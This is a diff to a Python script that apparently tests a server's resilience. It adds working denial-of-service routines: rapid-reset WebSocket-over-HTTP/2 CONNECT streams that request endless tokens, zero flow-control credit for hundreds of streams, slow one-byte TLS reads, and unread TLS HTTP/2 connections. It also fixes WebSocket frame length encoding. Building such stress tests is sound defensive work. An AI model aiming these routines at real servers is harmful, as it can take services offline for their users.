@@ -2,6 +2,7 @@
 until it is ended, as an attacker would. None needs more than a few megabytes of its own."""
 
 import itertools
+import os
 import resource
 import socket
 import ssl
@@ -17,6 +18,8 @@ NO_CREDIT = PREFACE + frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
 ALL_CREDIT = PREFACE + frame(4, 0, 0, b"\x00\x04\x7f\xff\xff\xff")
 MORE_FOR_ALL = frame(8, 0, 0, b"\x7f\xff\x00\x00")
 RESET = b"\0\0\0\x08"
+# A message to /ws/stream, which is answered with tokens.
+TOKENS = b"count=10000&bytes=65536&every_ms=1"
 # Of a WebSocket's message before compression: below the 16 MiB that most servers take.
 BOMB = 16_000_000
 
@@ -131,6 +134,32 @@ def reset_of_posts(ports, path):
                 break
 
 
+def opened(stream, path):
+    """A WebSocket over HTTP/2 (RFC 8441) that asks for tokens without end; of a server without them, a file."""
+    if not path.startswith(b"/ws/"):
+        return headers(stream, head(b"GET", path))
+    block = (literal(b":method", b"CONNECT") + literal(b":protocol", b"websocket") + b"\x86\x04" + text(path)
+             + b"\x01\x01a" + literal(b"sec-websocket-version", b"13"))
+    return headers(stream, block, False) + frame(0, 0, stream, web_socket_frame(0x81, TOKENS))
+
+
+def socket_reset(ports, path):
+    """4 connections, 1,000 WebSockets each (CONNECT of RFC 8441) that ask for tokens, each reset at once"""
+    for one in connections(4, ports["h2c"], ALL_CREDIT + MORE_FOR_ALL):
+        one.drain()
+        for first in range(0, 1000, 50):
+            each = (2 * number + 1 for number in range(first, first + 50))
+            if not one.send(b"".join(opened(id, path) + frame(3, 0, id, RESET) for id in each)):
+                break
+
+
+def socket_window_zero(ports, path):
+    """4 connections, 100 WebSockets each (CONNECT of RFC 8441) that ask for tokens, no credit for any byte"""
+    for one in connections(4, ports["h2c"], NO_CREDIT):
+        one.drain()
+        one.send(b"".join(opened(id, path) for id in streams(100)))
+
+
 def window_zero(ports, path, count=4):
     """4 connections, 100 requests each, no credit for any byte"""
     for one in connections(count, ports["h2c"], NO_CREDIT):
@@ -177,18 +206,41 @@ def unread_h2(ports, path):
     return [Peer(ports["h2c"], ALL_CREDIT + MORE_FOR_ALL + asked(path), small=True) for _ in range(20)]
 
 
-def unread_tls(ports, path):
-    """100 TLS connections, one request each, nothing is read"""
+def secured(count, port, alpn, said):
+    """TLS connections that say this after the handshake."""
     context = ssl._create_unverified_context()
-    context.set_alpn_protocols(["http/1.1"])
+    context.set_alpn_protocols([alpn])
     held = []
-    for one in connections(100, ports["https"], small=True):
+    for one in connections(count, port, small=True):
         try:
             held.append(context.wrap_socket(one.socket))
-            held[-1].sendall(gets(path))
+            held[-1].sendall(said())
         except OSError:
             pass
     return held
+
+
+def unread_tls(ports, path):
+    """100 TLS connections, one request each, nothing is read"""
+    return secured(100, ports["https"], "http/1.1", lambda: gets(path))
+
+
+def slow_tls(ports, path):
+    """100 TLS connections, one request each, of which one byte is taken now and then"""
+    held = secured(100, ports["https"], "http/1.1", lambda: gets(path))
+    while True:
+        for one in held:
+            try:
+                # Of the connection, not of a record: TLS would take a whole one.
+                os.read(one.fileno(), 1)
+            except OSError:
+                pass
+        time.sleep(0.25)
+
+
+def unread_tls_h2(ports, path):
+    """20 TLS connections over HTTP/2, 100 requests each, all the credit that there is, nothing is read"""
+    return secured(20, ports["https"], "h2", lambda: ALL_CREDIT + MORE_FOR_ALL + asked(path))
 
 
 def references(ports, path):
@@ -282,7 +334,12 @@ def deflated(length):
 
 def web_socket_frame(first, said):
     """Masked with zeros. The length has as few bytes as it can (RFC 6455, section 5.2)."""
-    length = b"\xfe" + struct.pack(">H", len(said)) if len(said) < 65536 else b"\xff" + struct.pack(">Q", len(said))
+    if len(said) < 126:
+        length = bytes([0x80 | len(said)])
+    elif len(said) < 65536:
+        length = b"\xfe" + struct.pack(">H", len(said))
+    else:
+        length = b"\xff" + struct.pack(">Q", len(said))
     return bytes([first]) + length + bytes(4) + said
 
 
